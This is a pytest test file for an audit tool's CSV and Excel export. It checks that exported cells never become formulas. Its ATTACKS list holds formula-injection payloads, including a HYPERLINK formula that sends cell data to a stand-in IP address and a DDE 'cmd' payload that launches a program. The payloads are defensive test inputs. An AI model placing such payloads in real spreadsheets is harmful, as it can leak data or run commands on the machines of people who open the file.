"""Exports for spreadsheets: everything is in them, nothing is a formula, and what does not fit is told."""

from __future__ import annotations

import csv
import io
import zipfile
from datetime import datetime
from pathlib import Path
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st

pytest.importorskip("pyarrow")
pytest.importorskip("duckdb")
pytest.importorskip("xlsxwriter")
pytest.importorskip("openpyxl")

import openpyxl

from msgpolicy.audit.report import write_report
from msgpolicy.audit.spreadsheets import write_csv, write_xlsx, xlsx_file
from msgpolicy.audit.spreadsheets.cells import is_formula
from msgpolicy.cli import main
from tests.audit_archives import lines, record
from tests.audit_folder import FILE, asked, found, linter, message, time, write_tables

ATTACKS = [
    "=1+1", "+1", "-1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", " =1", "\ufeff=1", "\u200b-1", "＝1", "＋1", "－1", "＠x",
    '=HYPERLINK("http://192.0.2.1/?"&A1,"see")', "=cmd|'/C calc'!A0", '"=1', ",=1", "';=1", "a\n=1", "\x00=1",
    "\ufffe=1",
]  # fmt: skip
FORMULAS = [text for text in ATTACKS if text not in ('"=1', ",=1", "';=1", "a\n=1", "\ufffe=1")]


def folder(out: Path, texts: list[str]) -> str:
    """An audit with a finding of each text, in many of its columns."""
    write_tables(
        out,
        {
            "messages": [message(n, "block", sender=text, language=text) for n, text in enumerate(texts, 1)],
            "violations": [
                found(n, excerpt=text, message=text, suggestion=text, evidence=text, confidence=0.5)
                for n, text in enumerate(texts, 1)
            ],
            "not_evaluated": [{"file": FILE, "number": 1, "rule": "a", "why": "missing", "needs": ["=b", "c"]}],
            "rejected": [{"file": text, "position": "line 1", "why": text} for text in texts],
        },
        files=2,
    )
    write_report(str(out), asked(), linter())
    return str(out)


def read_csv(out: str, name: str) -> list[dict[str, str]]:
    with open(f"{out}/{name}.csv", encoding="utf-8-sig", newline="") as stream:
        return list(csv.DictReader(stream))


@pytest.mark.parametrize("text", FORMULAS)
def test_what_a_spreadsheet_takes_for_a_formula(text: str) -> None:
    assert is_formula(text)


@pytest.mark.parametrize(
    "text", ["", "a=1", "Hello", "1-2", "•••@shop.example", "(+49)", "„=“", '{"a": 1}', "–1", "a\t="]
)
def test_what_is_none(text: str) -> None:
    assert not is_formula(text)


@given(st.text(max_size=5))
def test_with_an_apostrophe_nothing_is_a_formula(text: str) -> None:
    assert not is_formula(f"'{text}")
    assert is_formula(f"={text}")


def test_csv_holds_everything_and_no_formula(tmp_path: Path) -> None:
    out = folder(tmp_path, ATTACKS)
    assert write_csv(out) == ["violations.csv", "groups.csv", "messages.csv", "not_evaluated.csv", "rejected.csv"]
    for name in ("violations", "groups", "messages", "not_evaluated", "rejected"):
        rows = read_csv(out, name)
        assert rows
        assert not [cell for row in rows for cell in row.values() if is_formula(cell)]
    rows = read_csv(out, "violations")
    assert [
        row["excerpt"].removeprefix("'") if row["excerpt"][:2] != "';" else row["excerpt"] for row in rows
    ] == ATTACKS
    assert rows[0]["sent_at"] == "2026-03-01T00:00:00Z"
    assert rows[0]["template_group"]
    assert read_csv(out, "not_evaluated")[0]["needs"] == "'=b, c"


def test_csv_begins_as_excel_wants_it(tmp_path: Path) -> None:
    out = folder(tmp_path, ["Grüße, 你好"])
    write_csv(out)
    assert (tmp_path / "violations.csv").read_bytes().startswith(b"\xef\xbb\xbffile,number,")
    assert read_csv(out, "violations")[0]["excerpt"] == "Grüße, 你好"


def test_a_workbook_holds_everything_and_no_formula(tmp_path: Path) -> None:
    out = folder(tmp_path, ATTACKS)
    assert write_xlsx(out) == ["audit.xlsx"]
    with zipfile.ZipFile(tmp_path / "audit.xlsx") as archive:
        for name in archive.namelist():
            assert b"<f>" not in archive.read(name)
            assert "externalLink" not in name
            assert b"<hyperlink" not in archive.read(name)
    book = openpyxl.load_workbook(tmp_path / "audit.xlsx")
    assert book.sheetnames == ["about", "violations", "groups", "messages", "not_evaluated", "rejected"]
    sheet = book["violations"]
    head = [cell.value for cell in sheet[1]]
    cells = [row[head.index("excerpt")] for row in sheet.iter_rows(min_row=2)]
    assert [cell.data_type for cell in cells] == ["s"] * len(ATTACKS)
    assert [bool(cell.quotePrefix) for cell in cells] == [is_formula(text) for text in ATTACKS]
    # openpyxl gives what cannot stand in XML as Excel writes it.
    assert [str(cell.value).replace("_x0000_", "\x00") for cell in cells][:5] == ATTACKS[:5]
    first = [cell.value for cell in sheet[2]]
    assert first[head.index("sent_at")] == datetime(2026, 3, 1)  # noqa: DTZ001
    assert first[head.index("confidence")] == 0.5
    assert first[head.index("number")] == 1


def test_the_same_tables_give_the_same_workbook(tmp_path: Path) -> None:
    out = folder(tmp_path, ["a"])
    made = []
    for _ in range(2):
        write_xlsx(out)
        made.append((tmp_path / "audit.xlsx").read_bytes())
    assert made[0] == made[1]


def test_what_a_sheet_cannot_hold_is_told(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(xlsx_file, "MAX_ROWS", 5)
    out = folder(tmp_path, list("abcdefg"))
    write_xlsx(out)
    book = openpyxl.load_workbook(tmp_path / "audit.xlsx")
    assert book["violations"].max_row == 6
    told = {row[0].value: [cell.value for cell in row[1:]] for row in book["about"].iter_rows(min_row=2)}
    assert told["violations"] == [7, 5, "2 rows are not here", "violations/*.parquet"]
    assert told["not_evaluated"][2] in ("", None)


def test_long_texts_and_odd_times_fit(tmp_path: Path) -> None:
    write_tables(
        tmp_path,
        {
            "messages": [
                message(1, "block", sent_at=time(1, year=1)),
                message(2, sent_at=time(31, month=12, year=9999)),
            ],
            "violations": [found(1, excerpt="😀" * 40_000), found(2, excerpt="x" * 40_000)],
        },
    )
    write_report(str(tmp_path), asked(), linter())
    write_xlsx(str(tmp_path))
    sheet: Any = openpyxl.load_workbook(tmp_path / "audit.xlsx")["violations"]
    head = [cell.value for cell in sheet[1]]
    values = [row[head.index("excerpt")].value for row in sheet.iter_rows(min_row=2)]
    assert [len(value.encode("utf-16-le")) // 2 <= 32_767 for value in values] == [True, True]
    assert all(value.endswith("…") for value in values)
    assert sheet[2][head.index("sent_at")].value == "0001-03-01T00:00:00Z"


def test_an_audit_of_nothing(tmp_path: Path) -> None:
    write_tables(tmp_path, {})
    write_report(str(tmp_path), asked(), linter())
    write_csv(str(tmp_path))
    write_xlsx(str(tmp_path))
    assert read_csv(str(tmp_path), "violations") == []
    assert openpyxl.load_workbook(tmp_path / "audit.xlsx")["violations"].max_row == 1


def test_the_command_exports_and_takes_decisions(tmp_path: Path) -> None:
    archive, out, bad = tmp_path / "a.jsonl", tmp_path / "out", tmp_path / "d.jsonl"
    archive.write_bytes(lines([record(1)]))
    bad.write_text('{"rule": "phone-number"}\n')

    def run(*args: str) -> tuple[int, str]:
        err = io.StringIO()
        args = ("audit", str(archive), "--out", str(out), "--processes", "1", *args)
        return main(list(args), stdin=io.BytesIO(), stdout=io.StringIO(), stderr=err), err.getvalue()

    status, said = run("--decisions", str(bad))
    assert (status, f"{bad}:1:1: the key 'by' is missing" in said) == (2, True), said
    assert not out.exists()
    assert run("--export", "xlsx", "--export", "csv") == (0, "")
    assert (out / "audit.xlsx").stat().st_size > 1000
    assert len(list(out.glob("*.csv"))) == 5
    assert not (out / ".work").exists()
